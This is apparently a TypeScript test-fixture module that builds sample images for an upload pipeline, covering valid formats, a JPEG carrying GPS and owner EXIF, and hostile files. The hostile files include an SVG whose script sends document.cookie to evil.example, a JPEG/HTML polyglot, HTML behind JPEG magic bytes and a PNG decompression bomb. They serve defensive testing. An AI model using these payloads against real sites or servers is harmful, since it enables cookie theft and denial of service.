/**
 * Images for the pipeline's tests, generated on the spot: valid ones in every accepted format and
 * hostile ones (renamed text, SVG with a script, polyglot, truncated JPEG, pixel bomb).
 * Small on purpose, except where a size is the point.
 */
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

const noise = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#808080', noise: { type: 'gaussian', mean: 128, sigma: 60 } } });

/** A detailed photo stand-in: random noise, so any blur or resampling shows. */
export const noisyJpeg = (width = 96, height = 64) => noise(width, height).jpeg({ quality: 90 }).toBuffer();

/** Fine black-and-white squares: detail a thumbnail keeps and a blurred preview must lose. */
export function checkerboardJpeg(width: number, height: number, cell = 16): Promise<Buffer> {
  const pixels = Buffer.alloc(width * height);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) pixels[y * width + x] = (Math.floor(x / cell) + Math.floor(y / cell)) % 2 ? 255 : 0;
  }
  return sharp(pixels, { raw: { width, height, channels: 1 } }).jpeg({ quality: 90 }).toBuffer();
}

export const pngWithAlpha = (width = 80, height = 60) =>
  sharp({ create: { width, height, channels: 4, background: { r: 10, g: 200, b: 30, alpha: 0.5 } } })
    .png()
    .toBuffer();

export const webpImage = (width = 80, height = 60) => noise(width, height).webp().toBuffer();

/** Three frames, red then green then blue. */
export async function animatedGif(width = 40, height = 30): Promise<Buffer> {
  const frames = await Promise.all(
    ['#ff0000', '#00ff00', '#0000ff'].map((background) =>
      sharp({ create: { width, height, channels: 3, background } }).png().toBuffer(),
    ),
  );
  return sharp(frames, { join: { animated: true } }).gif({ delay: 100 }).toBuffer();
}

export const GPS_MAP_DATUM = 'WGS-84';
export const EXIF_OWNER = 'Bela Test Owner';

/** A JPEG carrying what must never leave the server: GPS and owner EXIF, XMP and an ICC profile. */
export const jpegWithPrivateMetadata = () =>
  noise(64, 48)
    .jpeg()
    .withExif({
      IFD0: { Copyright: EXIF_OWNER, Artist: EXIF_OWNER },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 51/1 2400/100', GPSMapDatum: GPS_MAP_DATUM },
    })
    .withXmp(
      '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">' +
        '<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="Bela Test Owner"/></rdf:RDF></x:xmpmeta>',
    )
    .withIccProfile('p3')
    .toBuffer();

/**
 * Stored 60×40 sideways with EXIF orientation 6 (display rotated 90° clockwise): its left half is
 * red and its right half blue, so once oriented it is 40×60, red on top and blue below.
 */
export async function sidewaysJpeg(): Promise<Buffer> {
  const half = (background: string) =>
    sharp({ create: { width: 30, height: 40, channels: 3, background } }).png().toBuffer();
  return sharp({ create: { width: 60, height: 40, channels: 3, background: '#000000' } })
    .composite([
      { input: await half('#ff0000'), left: 0, top: 0 },
      { input: await half('#0000ff'), left: 30, top: 0 },
    ])
    .jpeg({ quality: 95 })
    .withMetadata({ orientation: 6 })
    .toBuffer();
}

export const renamedTextFile = () => Buffer.from('Shopping list:\n- milk\n- eggs\nThis is not a photo.\n');

export const svgWithScript = () =>
  Buffer.from(
    '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">' +
      '<script>fetch("https://evil.example/?c="+document.cookie)</script><rect width="100" height="100"/></svg>',
  );

const HTML_PAYLOAD = '<html><body><script>alert(document.cookie)</script></body></html>\n';

/** A real JPEG's header (SOI, tables, frame) followed by HTML where the scan data should be. */
export async function jpegHtmlPolyglot(): Promise<Buffer> {
  const jpeg = await noisyJpeg(64, 64);
  const startOfScan = jpeg.indexOf(Buffer.from([0xff, 0xda]));
  return Buffer.concat([jpeg.subarray(0, startOfScan), Buffer.from(HTML_PAYLOAD.repeat(8))]);
}

/** HTML with JPEG magic bytes in front. */
export const htmlWithJpegMagic = () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(HTML_PAYLOAD)]);

export async function truncatedJpeg(): Promise<Buffer> {
  const jpeg = await noisyJpeg(160, 120);
  return jpeg.subarray(0, Math.floor(jpeg.length * 0.6));
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typeAndData = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([length, typeAndData, crc]);
}

/** A valid-looking PNG declaring width×height 8-bit greyscale pixels, in a few hundred bytes. */
export function pngPixelBomb(width = 30_000, height = 30_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.writeUInt8(8, 8); // bit depth
  header.writeUInt8(0, 9); // greyscale
  // compression, filter and interlace methods stay 0
  const firstRows = deflateSync(Buffer.alloc(4 * (width + 1))); // a few rows of zeros, filter byte included
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', firstRows),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}
